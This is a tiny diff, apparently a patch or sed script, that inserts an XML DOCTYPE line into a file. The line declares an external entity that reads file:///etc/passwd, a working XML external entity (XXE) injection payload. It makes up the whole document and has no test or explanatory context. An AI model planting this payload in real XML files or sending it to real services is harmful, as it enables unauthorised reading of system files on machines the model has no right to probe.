@@ -1,0 +1,2 @@
+2i\
+<!DOCTYPE criteria [<!ENTITY a SYSTEM "file:///etc/passwd">]>
